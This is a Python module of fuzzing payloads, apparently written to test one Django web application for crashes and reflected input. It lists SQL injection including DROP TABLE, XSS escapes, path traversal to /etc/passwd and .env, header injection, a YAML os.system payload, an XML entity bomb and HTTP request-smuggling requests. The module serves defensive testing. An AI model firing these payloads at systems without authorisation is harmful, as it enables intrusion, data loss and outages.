# ruff: noqa: E501
"""Hostile payloads: values, paths, headers, cookies, methods and bodies, each with its reason.

Values are percent-encoded, as they are sent. Those that a response may reflect contain `MARK`, so
that a reflection is not mistaken for a coincidence.
"""

from dataclasses import dataclass

MARK = "hx7q"
#: The product of the two numbers in a template expression; seen in a response, it was evaluated.
EVALUATED = "1882383"
#: granian accepts request lines of less than 64 KB.
ALMOST_TOO_LONG, TOO_LONG = 60_000, 100_000
KOREAN_WORD = "%EB%B4%89%EC%A0%9C"  # 봉제


@dataclass(frozen=True)
class Value:
    """One hostile value; `why` is also its name in the report."""

    why: str
    wire: str
    #: Whether the URL with it is longer than a server must accept.
    too_long: bool = False
    #: Whether it may be meant as valid input, such as full-width digits.
    may_fit: bool = False


def _build_values() -> list[Value]:
    some = [
        # Characters that databases, parsers and terminals treat differently.
        Value("NUL alone: an error on PostgreSQL, the end of the text on SQLite", "%00"),
        Value("NUL inside", f"{MARK}%00{MARK}"),
        Value("every control character", "".join(f"%{n:02X}" for n in range(1, 32))),
        Value("DEL and C1 controls", "%7F%C2%80%C2%85%C2%9F"),
        Value("invalid UTF-8", "%FF%FE%80"),
        Value("UTF-8 cut off", "%EB%B4"),
        Value("overlong UTF-8 of a slash", "..%C0%AF..%C0%AFetc%C0%AFpasswd"),
        Value("overlong UTF-8 of NUL", "%C0%80"),
        Value("a lone high surrogate", "%ED%A0%80"),
        Value("a lone low surrogate", "%ED%B0%80"),
        Value("a surrogate pair in CESU-8", "%ED%A0%BD%ED%B8%80"),
        Value("beyond the last character", "%F4%90%80%80"),
        Value("a noncharacter", "%EF%BF%BF"),
        Value("a percent sign that encodes nothing", "%"),
        Value("broken percent-encoding", "%zz%4"),
        Value("IIS-style encoding", "%u0000%u003c"),
        Value("right-to-left override", f"%E2%80%AE{MARK}%E2%80%AC"),
        Value("bidi isolates", f"%E2%81%A6{MARK}%E2%81%A9"),
        Value("zero-width space alone", "%E2%80%8B"),
        Value("byte order mark", "%EF%BB%BF"),
        Value("Hangul filler", "%E3%85%A4"),
        Value("line separator", f"{MARK}%E2%80%A8{MARK}"),
        Value("decomposed Hangul", "%E1%84%87%E1%85%A9%E1%86%BC", may_fit=True),
        Value("half-typed Hangul", "%EB%B4%89%E3%85%88", may_fit=True),
        Value("2,000 combining marks on one letter", "a" + "%CC%81" * 2000),
        Value("a family of emoji", "%F0%9F%91%A8%E2%80%8D%F0%9F%91%A9%E2%80%8D%F0%9F%91%A7"),
        # Numbers.
        Value("minus ten to the million: hangs Decimal", "-1e1000000"),
        Value("ten to the million", "1e1000000"),
        Value("more than a float holds", "1e400"),
        Value("less than a float holds", "1e-400"),
        Value("NaN", "NaN"),
        Value("infinity", "Infinity"),
        Value("4,300 digits, the most that Python reads", "9" * 4300),
        Value("4,301 digits, one more", "9" * 4301),
        Value("50,000 digits", "9" * 50_000),
        Value("2 to the 63rd", str(2**63)),
        Value("2 to the 64th", str(2**64)),
        Value("less than any column holds", str(-(2**63) - 1)),
        Value("2 to the 31st", str(2**31)),
        Value("minus one", "-1"),
        Value("minus zero", "-0", may_fit=True),
        Value("zero", "0", may_fit=True),
        Value("a plus sign before a number", "%2B1", may_fit=True),
        Value("hexadecimal", "0x1F"),
        Value("underscores in a number", "1_000"),
        Value("leading zeros", "0" * 200 + "1", may_fit=True),
        Value("a decimal comma", "1,5"),
        Value("an Arabic digit", "%D9%A3", may_fit=True),
        Value("a Chinese digit", "%E4%BA%8C", may_fit=True),
        Value("full-width digits", "%EF%BC%92%EF%BC%90%EF%BC%92%EF%BC%90", may_fit=True),
        Value("a superscript digit: isdigit, but int() rejects it", "%C2%B2", may_fit=True),
        Value("a Roman numeral", "%E2%85%A7"),
        Value("true", "true"),
        Value("None", "None"),
        Value("null", "null"),
        Value("a list", "[]"),
        Value("an invalid date", "9999-99-99"),
        Value("the year 0", "0000-00-00"),
        Value("a date before all time zones", "0001-01-01"),
        # Injection into other languages.
        Value("LIKE wildcards", "%25_%5C"),
        Value("a LIKE wildcard alone", "%25"),
        Value("an underscore alone", "_"),
        Value("a backslash alone", "%5C"),
        Value("1,000 wildcards", "%25a" * 1000),
        Value("a regular expression that does not end", "("),
        Value("a regular expression with catastrophic backtracking", "(a%2B)%2B$" + "a" * 60),
        Value("SQL that is always true", "'%20OR%20'1'='1"),
        Value("SQL that drops", "1;DROP%20TABLE%20centers_center;--"),
        Value("SQL that sleeps", "1'%20OR%20pg_sleep(9)--"),
        Value("quotes of both kinds", "'\"`"),
        Value("a dollar quote", "$$;SELECT%20pg_sleep(9);$$"),
        Value("a template expression", f"{MARK}%7B%7B1371*1373%7D%7D"),
        Value("a template tag", "%7B%25%20load%20nothing%20%25%7D"),
        Value("a format string", "%25s%25n%25(a)s%7B0.__class__%7D$%7Bjndi:ldap://x%7D"),
        Value("a script", f"%3Cscript%3E{MARK}()%3C/script%3E"),
        Value("an escape from an attribute", f"%22%3E%3Cimg%20src=x%20onerror={MARK}()%3E"),
        Value("an escape without brackets", f"%22%20onfocus={MARK}()%20autofocus%20x=%22"),
        Value("an escape from single quotes", f"'%20onfocus={MARK}()%20x='"),
        Value("an escape from a script", f"%3C/script%3E%3Csvg/onload={MARK}()%3E"),
        Value("an escape from CDATA", f"%5D%5D%3E%3C{MARK}%3E"),
        Value("an escape from a comment", f"--%3E%3C{MARK}%3E"),
        Value("UTF-7", f"%2BADw-script%2BAD4-{MARK}()"),
        Value("a javascript: URL", f"javascript:{MARK}()"),
        Value("a javascript: URL, disguised", f"java%09script:{MARK}()"),
        Value("another host", "//evil.example/"),
        Value("another host, by backslashes", "/%5Cevil.example/"),
        Value("another site", "https://evil.example/"),
        Value("header injection", f"%0d%0aSet-Cookie:%20{MARK}=1"),
        Value("header injection by UTF-8", f"%E5%98%8A%E5%98%8DSet-Cookie:%20{MARK}=1"),
        Value("response splitting", f"%0d%0a%0d%0a%3Cscript%3E{MARK}()%3C/script%3E"),
        Value("a formula", f"=cmd%7C'/C%20calc'!{MARK}"),
        Value("folders upwards", "../../../../etc/passwd"),
        Value("folders upwards, encoded", "%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
        Value("folders upwards, encoded twice", "%252e%252e%252fetc%252fpasswd"),
        Value("a path of its own", "/etc/passwd"),
        Value("a path of Windows", "..%5C..%5Cboot.ini"),
        Value("YAML", "!!python/object/apply:os.system%20['id']"),
        Value("XML with an entity", "%3C!DOCTYPE%20a%20%5B%3C!ENTITY%20b%20SYSTEM%20'file:///etc/passwd'%3E%5D%3E"),
        # What the fields of the desk and of the public form expect, nearly.
        Value("a day that no month has", "2026-02-30"),
        Value("a month that no year has", "2026-13"),
        Value("a day in the far future", "2099-12-31"),
        Value("a day with blanks", "2026.%2010.%2031.", may_fit=True),
        Value("two telephone numbers", "02-123-4567,%20042-123-4567"),
        Value("a telephone of 1,000 digits", "02-" + "1" * 1000),
        Value("mathematical digits", "%F0%9D%9F%8E%F0%9D%9F%90%F0%9D%9F%8F", may_fit=True),
        Value("a link with a password", f"https://{MARK}:a@evil.example/"),
        Value("a link to no port", "http://example.kr:99999/"),
        Value("a link to half an address", "http://[::1"),
        Value("a link with a control character", f"https://example.kr/%01{MARK}"),
        Value("a link to a host of 300 letters", "https://" + "a" * 300 + ".kr/"),
        Value("a data: URL", f"data:text/html,%3Cscript%3E{MARK}()%3C/script%3E"),
        Value("versions of a form", "%7B%22%22:%7B%221%22:%22x%22%7D%7D"),
        Value("versions of two records", "1-2-3-4"),
        Value("a signed text of another key", "1.00:1vAAAA:AAAA"),
        # Too much of a good thing.
        Value("9 words", "+".join([KOREAN_WORD] * 9)),
        Value("3,000 words", "+".join(["a"] * 3000)),
        Value("20,000 words", "+".join(["a"] * 20_000)),
        # Nothing longer gets past the server: these are the most that the program has to read.
        Value("7,500 words in an address that just fits", "+".join(["a"] * 7_500)),
        Value("15 KB in an address that just fits", "a" * 15_000),
        Value("1,600 letters in an address that just fits", KOREAN_WORD * 800),
        Value("5,000 letters without a gap", KOREAN_WORD * 2500),
        Value("60 KB", "a" * ALMOST_TOO_LONG),
        Value("100 KB", "a" * TOO_LONG, too_long=True),
        Value("30 KB of spaces", "+" * 30_000, may_fit=True),
    ]  # fmt: skip
    return some


VALUES = _build_values()
#: The values most likely to break something, where all would take too long.
NASTIEST = [
    value
    for value in VALUES
    if value.wire in ("%00", "%ED%A0%80", "-1e1000000", str(2**63), "9" * 4301, "%C2%B2", "(", "NaN")
    or value.why.startswith(("a script", "an escape from an", "header injection", "a javascript: URL"))
]  # fmt: skip

#: A megabyte in one field of a form, with its reason.
LONG_TEXTS = (
    ("1 MB of letters", "a" * 1_000_000),
    ("1 MB of Hangul", KOREAN_WORD * 55_000),
    ("1 MB of line ends", "%0D%0A" * 170_000),
    ("1 MB of tags", f"%3Cb%3E{MARK}" * 80_000),
)

#: Complete paths.
PATHS = (
    "/../../etc/passwd",
    "/..%2f..%2fetc/passwd",
    "/%2e%2e/%2e%2e/etc/passwd",
    "/static/../../../etc/passwd",
    "/static/..%2f..%2fdb.sqlite3",
    "/static/%2e%2e/%2e%2e/secret_key",
    "/static//etc/passwd",
    "/static/%00",
    "/static/css/base.css%00.png",
    "/static/%ED%A0%80",
    "/static/" + "a" * 5000,
    "/static/" + "a/" * 2000,
    "//evil.example/",
    "//evil.example/..%2f",
    "/\\evil.example/",
    "///evil.example/%2e%2e",
    "/%0d%0aSet-Cookie:%20hx7q=1/",
    "/centers/1%0d%0aSet-Cookie:%20hx7q=1/",
    "/centers/1/%00",
    "/centers/1",
    "/centers/1//",
    "/centers/1/?" + "a" * 60_000,
    "/%C0%AE%C0%AE/",
    "/.git/config",
    "/.env",
    "/var/db.sqlite3",
    "/db.sqlite3",
    "/secret_key",
    "/admin/../centers/",
    "/api/v1/../../admin/",
    "/api/v1//centers/",
    "/API/V1/centers/",
    "/centers.csv/",
    "/centers.CSV",
    "/centers.csv%00",
    "/centers.csv.xlsx",
    "/centers./../../etc/passwd",
    "/sitemap-.xml",
    "/sitemap-../../etc/passwd.xml",
    "/<script>hx7q()</script>",
    "/%3Cscript%3Ehx7q()%3C/script%3E",
    "/%22%3E%3Cimg%20src=x%20onerror=hx7q()%3E/",
    "/about/%3Csvg%20onload=hx7q()%3E",
    "/about",
    "/?",
    "/??",
    "/?=&&==&",
    "/?&" + "&" * 5000,
    "/;a=b",
    "/about/;jsessionid=1",
    "/about/#hx7q",
    "/%EC%84%BC%ED%84%B0/",
    "/" + "%EC%84%BC" * 3000,
    "/" + "a/" * 5000,
    "/.well-known/../admin/",
    "/admin/login/?next=//evil.example/",
    "/admin/login/?next=javascript:hx7q()",
    "/admin/login/?next=https://evil.example/",
    "/admin/login/?next=/%5Cevil.example/",
    "/admin/login/?next=%0d%0aSet-Cookie:hx7q=1",
    "/admin/r/1/1/",
    "/admin/r/%00/%00/",
    "/admin/r/99999999999999999999/99999999999999999999/",
    "/admin/jsi18n/?language=%00",
    "/admin/doc/",
    "/server-status",
    "/wp-login.php",
)

#: Header lines added to an ordinary request.
HEADERS: tuple[tuple[str, list[tuple[str, str]]], ...] = (
    ("a header of 30 KB", [("X-A", "a" * 30_000)]),
    ("a header of 100 KB", [("X-A", "a" * 100_000)]),
    ("90 headers", [(f"X-A{n}", "a") for n in range(90)]),
    ("1,000 headers", [(f"X-A{n}", "a") for n in range(1000)]),
    ("invalid Accept", [("Accept", ";;;,,,/")]),
    ("Accept of 5,000 kinds", [("Accept", ",".join(f"a/b{n};q=0.{n}" for n in range(5000))[:50_000])]),
    ("Accept with a broken weight", [("Accept", "text/html;q=NaN, */*;q=1e400")]),
    ("invalid Accept-Language", [("Accept-Language", "../../etc/passwd, %00;q=9" * 50)]),
    ("Accept-Language of another", [("Accept-Language", "en")]),
    ("invalid Accept-Encoding", [("Accept-Encoding", "gzip;q=NaN, br;q=-1, *;q=, \x80")]),
    ("Accept-Encoding of nothing", [("Accept-Encoding", "identity;q=0, *;q=0")]),
    ("Accept-Charset", [("Accept-Charset", "utf-7")]),
    ("Range backwards", [("Range", "bytes=9-1")]),
    ("Range of 1,000 parts", [("Range", "bytes=" + ",".join(f"{n}-{n}" for n in range(1000)))]),
    ("Range beyond", [("Range", f"bytes={2**64}-")]),
    ("invalid Range", [("Range", "lines=1-2, bytes=a-b")]),
    ("If-Modified-Since that is no day", [("If-Modified-Since", "gestern")]),
    ("If-Modified-Since of no year", [("If-Modified-Since", "Thu, 01 Jan 0000 00:00:00 GMT")]),
    ("If-Modified-Since of an invalid month", [("If-Modified-Since", "Thu, 99 Foo 9999 99:99:99 GMT")]),
    ("If-Modified-Since far off", [("If-Modified-Since", "Fri, 31 Dec 9999 23:59:59 GMT")]),
    ("If-Modified-Since of many digits", [("If-Modified-Since", "Thu, 01 Jan " + "9" * 4400 + " 00:00:00 GMT")]),
    ("If-Modified-Since by RFC 850 with Arabic digits", [("If-Modified-Since", "Sunday, 06-Nov-٩٤ 08:49:37 GMT")]),
    ("If-Unmodified-Since that is no day", [("If-Unmodified-Since", "x")]),
    ("If-None-Match of 10,000 tags", [("If-None-Match", ",".join(['"a"'] * 10_000))]),
    ("If-None-Match without an end", [("If-None-Match", 'W/"' + "a" * 5000)]),
    ("If-None-Match of commas", [("If-None-Match", "," * 20_000)]),
    ("If-Match that fits nothing", [("If-Match", '"x"')]),
    ("If-Range", [("If-Range", "x"), ("Range", "bytes=0-1")]),
    ("X-Forwarded-Host of another", [("X-Forwarded-Host", "evil.example")]),
    ("X-Forwarded-For of a script", [("X-Forwarded-For", f"<script>{MARK}()</script>")]),
    ("X-Forwarded-For of 5,000 hops", [("X-Forwarded-For", ",".join(["127.0.0.1"] * 5000))]),
    ("invalid X-Forwarded-Proto", [("X-Forwarded-Proto", "javascript")]),
    ("X-Forwarded-Port and -Prefix", [("X-Forwarded-Port", "0"), ("X-Forwarded-Prefix", "//evil.example")]),
    ("Forwarded", [("Forwarded", 'for="[::1]";host=evil.example;proto=javascript')]),
    ("X-Original-URL", [("X-Original-URL", "/admin/"), ("X-Rewrite-URL", "/admin/")]),
    ("X-HTTP-Method-Override", [("X-HTTP-Method-Override", "DELETE")]),
    ("SCRIPT_NAME as a header", [("SCRIPT_NAME", "//evil.example"), ("Script-Name", "//evil.example")]),
    ("PATH_INFO and REMOTE_USER as headers", [("Path-Info", "/admin/"), ("Remote-User", "admin")]),
    ("Proxy (httpoxy)", [("Proxy", "http://evil.example/")]),
    ("Expect of something else", [("Expect", "200-maybe")]),
    ("Referer that runs", [("Referer", f"javascript:{MARK}()")]),
    ("Origin of another", [("Origin", "https://evil.example")]),
    ("User-Agent of a script", [("User-Agent", f"<script>{MARK}()</script>")]),
    ("User-Agent in Latin-1", [("User-Agent", "\xff\xfe\x80")]),
    ("Upgrade", [("Connection", "Upgrade, HTTP2-Settings"), ("Upgrade", "h2c"), ("HTTP2-Settings", "AA")]),
    ("a WebSocket", [("Connection", "Upgrade"), ("Upgrade", "websocket"), ("Sec-WebSocket-Key", "x"), ("Sec-WebSocket-Version", "13")]),
    ("invalid Authorization", [("Authorization", "Basic " + "=" * 500)]),
    ("X-CSRFToken with controls", [("X-CSRFToken", "\x01\x7f")]),
    ("Content-Type of nothing on GET", [("Content-Type", "multipart/form-data; boundary=")]),
    ("Content-Length of 0 on GET", [("Content-Length", "0")]),
    ("TE and Trailer", [("TE", "trailers"), ("Trailer", "Host")]),
    ("Host a second time", [("Host", "evil.example")]),
)  # fmt: skip

#: Values of the Host header; none is the server's own.
HOSTS = (
    "evil.example",
    "",
    " ",
    "127.0.0.1:99999",
    "127.0.0.1:abc",
    "127.0.0.1@evil.example",
    "evil.example#127.0.0.1",
    "127.0.0.1.evil.example",
    "127.0.0.1/../evil.example",
    "<script>hx7q()</script>",
    "[::1",
    "a" * 5000,
    "localhost,evil.example",
    "127.0.0.1\tevil.example",
    "%00",
    "\xff",
    "xn--\x80",
    "..",
)

COOKIES = (
    ("an invalid session", "sessionid=abc"),
    ("a session of 8 KB", "sessionid=" + "a" * 8192),
    ("a session with NUL in octal", 'sessionid="\\000aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"'),
    ("a session of the right length", "sessionid=" + "a" * 32),
    ("a session of wildcards", "sessionid=" + "%" * 32),
    ("a session by SQL", "sessionid=' OR '1'='1"),
    ("invalid messages", "messages=abc"),
    ("messages that are signed by nobody", "messages=W1siX19qc29uX21lc3NhZ2UiXV0:a:b"),
    ("a token of the wrong length", "csrftoken=abc"),
    ("a token of 8 KB", "csrftoken=" + "a" * 8192),
    ("a token with a new header", f"csrftoken=a%0d%0aSet-Cookie: {MARK}=1"),
    ("3,000 cookies", "; ".join(f"a{n}=1" for n in range(3000))),
    ("an invalid cookie", ";;;===;,,\x01"),
    ("a cookie in Latin-1", "a=\xff\xfe"),
    ("a cookie with a quote without an end", 'a="' + "\\" * 3000),
    ("a language", "django_language=../../etc/passwd"),
)

METHODS = (
    "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "HEAD", "CONNECT", "PROPFIND", "PURGE",
    "get", "Get", "POSTS", "__CLASS__", "A" * 300,
)  # fmt: skip

_DEEP = "[" * 100_000
_BOMB = (
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a0 "hx7q">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    + "]><a>&a9;</a>"
)
_FORM, _PARTS = "application/x-www-form-urlencoded", "multipart/form-data; boundary=b"


def _build_part(name: str, content: str = "x") -> str:
    return f'--b\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{content}\r\n'


#: Bodies: reason, content type, content.
BODIES: tuple[tuple[str, str, bytes], ...] = (
    ("1 MB of one field", _FORM, b"a=" + b"a" * 1_000_000),
    ("10 MB of one field", _FORM, b"a=" + b"a" * 10_000_000),
    ("10,000 fields", _FORM, b"&".join(b"a%d=1" % n for n in range(10_000))),
    ("one field 10,000 times", _FORM, b"&".join([b"a=1"] * 10_000)),
    ("a form with NUL and surrogates", _FORM, b"a=%00&b=%ED%A0%80&%00=c"),
    ("a form in UTF-16", _FORM + "; charset=utf-16", "a=가".encode("utf-16")),
    ("a form in an invalid charset", _FORM + "; charset=hx7q", b"a=1"),
    ("a form in a charset that is a codec", _FORM + "; charset=zlib", b"a=1"),
    ("a form with a charset encoded in nothing known", _FORM + "; charset*=hx7q''utf-8", b"a=1"),
    ("parts with a boundary encoded in nothing known", _PARTS.replace("boundary=", "boundary*=hx7q''"), b"--b--"),
    ("JSON 100,000 deep", "application/json", _DEEP.encode()),
    ("JSON that is cut off", "application/json", b'{"a": "\\ud800'),
    ("an XML bomb", "application/xml", _BOMB.encode()),
    ("parts without a boundary", "multipart/form-data", b"--b\r\n\r\n"),
    ("parts with an empty boundary", "multipart/form-data; boundary=", b"--\r\n\r\n"),
    ("parts with a boundary of 5,000", "multipart/form-data; boundary=" + "b" * 5000, b"--b\r\n"),
    ("parts with a boundary in Hangul", "multipart/form-data; boundary=\xea\xb0\x80", b"--b\r\n"),
    ("parts without an end", _PARTS, _build_part("a", "a" * 100_000).encode()),
    ("parts without a name", _PARTS, b"--b\r\nContent-Disposition: form-data\r\n\r\nx\r\n--b--\r\n"),
    ("parts with a header of 100 KB", _PARTS, b"--b\r\nX: " + b"a" * 100_000 + b"\r\n\r\nx\r\n--b--\r\n"),
    ("5,000 parts", _PARTS, (_build_part("a") * 5000 + "--b--\r\n").encode()),
    ("500 files", _PARTS, (_build_part('f"; filename="a') * 500 + "--b--\r\n").encode()),
    ("a part in broken base64", _PARTS, b'--b\r\nContent-Disposition: form-data; name="a"\r\n'
     b"Content-Transfer-Encoding: base64\r\n\r\n!!!\r\n--b--\r\n"),
    ("an invalid kind", "hx7q", b"a=1"),
    ("a kind of 5,000", "a/" + "b" * 5000, b"a=1"),
)  # fmt: skip


def build_raw_requests(host: str) -> tuple[tuple[str, bytes], ...]:
    """Return malformed raw requests with their reasons."""
    to = f"Host: {host}\r\n".encode()
    get = b"GET /about/ HTTP/1.1\r\n" + to
    end = b"Connection: close\r\n\r\n"
    return (
        ("another site in the request line", b"GET http://evil.example/ HTTP/1.1\r\n" + to + end),
        ("an absolute URL in the request line", f"GET http://{host}/about/ HTTP/1.1\r\n".encode() + to + end),
        ("another scheme in the request line", b"GET ftp://evil.example/ HTTP/1.1\r\n" + to + end),
        ("a star in the request line", b"OPTIONS * HTTP/1.1\r\n" + to + end),
        ("no path", b"GET  HTTP/1.1\r\n" + to + end),
        ("a path without a slash", b"GET about HTTP/1.1\r\n" + to + end),
        ("non-ASCII bytes in the path", b"GET /\xff\xfe HTTP/1.1\r\n" + to + end),
        ("UTF-8 in the path, not encoded", "GET /센터/?q=봉제 HTTP/1.1\r\n".encode() + to + end),
        ("a surrogate in the path, not encoded", b"GET /?q=\xed\xa0\x80 HTTP/1.1\r\n" + to + end),
        ("NUL in the path, not encoded", b"GET /\x00 HTTP/1.1\r\n" + to + end),
        ("a space in the path", b"GET /?q=a b HTTP/1.1\r\n" + to + end),
        ("HTTP/1.0 without Host", b"GET /about/ HTTP/1.0\r\n\r\n"),
        ("HTTP/0.9", b"GET /about/\r\n\r\n"),
        ("HTTP/9.9", b"GET /about/ HTTP/9.9\r\n" + to + end),
        ("the preface of HTTP/2", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0" * 9),
        ("the beginning of TLS", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\0" * 600),
        ("no Host", b"GET /about/ HTTP/1.1\r\n" + end),
        ("lines ended by LF alone", b"GET /about/ HTTP/1.1\n" + to.replace(b"\r", b"") + b"Connection: close\n\n"),
        ("a folded header", get + b"X-A: a\r\n b\r\n" + end),
        ("a header without a colon", get + b"X-A\r\n" + end),
        ("a space before the colon", get + b"X-A : a\r\n" + end),
        ("a header with NUL", get + b"X-A: \x00\r\n" + end),
        ("a header with CR alone", get + b"X-A: a\rSet-Cookie: hx7q=1\r\n" + end),
        ("an invalid length", b"POST /about/ HTTP/1.1\r\n" + to + b"Content-Length: abc\r\n" + end),
        ("a negative length", b"POST /about/ HTTP/1.1\r\n" + to + b"Content-Length: -1\r\n" + end),
        ("a length of 20 digits", b"POST /about/ HTTP/1.1\r\n" + to + b"Content-Length: 99999999999999999999\r\n" + end),
        ("a length with a plus sign", b"POST /about/ HTTP/1.1\r\n" + to + b"Content-Length: +5\r\n" + end + b"a=1&b"),
        ("two lengths that differ", b"POST /about/ HTTP/1.1\r\n" + to + b"Content-Length: 5\r\nContent-Length: 6\r\n" + end + b"a=1&b="),
        ("a length shorter than the body", b"POST /about/ HTTP/1.1\r\n" + to + b"Content-Length: 1\r\n" + end + b"a=1&b=2"),
        ("length and chunks at once (smuggling)", b"POST /about/ HTTP/1.1\r\n" + to
         + b"Content-Length: 6\r\nTransfer-Encoding: chunked\r\n" + end + b"0\r\n\r\nGET /hx7q HTTP/1.1\r\n" + to + end),
        ("chunks spelt otherwise (smuggling)", b"POST /about/ HTTP/1.1\r\n" + to
         + b"Content-Length: 4\r\nTransfer-Encoding: xchunked\r\n" + end + b"0\r\n\r\n"),
        ("chunks twice", b"POST /about/ HTTP/1.1\r\n" + to + b"Transfer-Encoding: chunked, chunked\r\n" + end + b"0\r\n\r\n"),
        ("an invalid chunk size", b"POST /about/ HTTP/1.1\r\n" + to + b"Transfer-Encoding: chunked\r\n" + end + b"zz\r\na\r\n0\r\n\r\n"),
        ("a chunk of 2 to the 64th", b"POST /about/ HTTP/1.1\r\n" + to + b"Transfer-Encoding: chunked\r\n" + end + b"10000000000000000\r\na\r\n0\r\n\r\n"),
        ("a chunk with a long extension", b"POST /about/ HTTP/1.1\r\n" + to + b"Transfer-Encoding: chunked\r\n" + end + b"1;" + b"a" * 20_000 + b"\r\na\r\n0\r\n\r\n"),
        ("chunks in order", b"POST /admin/login/ HTTP/1.1\r\n" + to + b"Transfer-Encoding: chunked\r\nContent-Type: application/x-www-form-urlencoded\r\n" + end
         + b"3\r\na=1\r\n" * 2000 + b"0\r\n\r\n"),
        ("two requests pipelined", get + b"\r\nGET /data/ HTTP/1.1\r\n" + to + end),
        ("200 requests pipelined", (get + b"\r\n") * 200 + get + end),
        ("nothing but empty lines", b"\r\n" * 500 + get + end),
    )  # fmt: skip
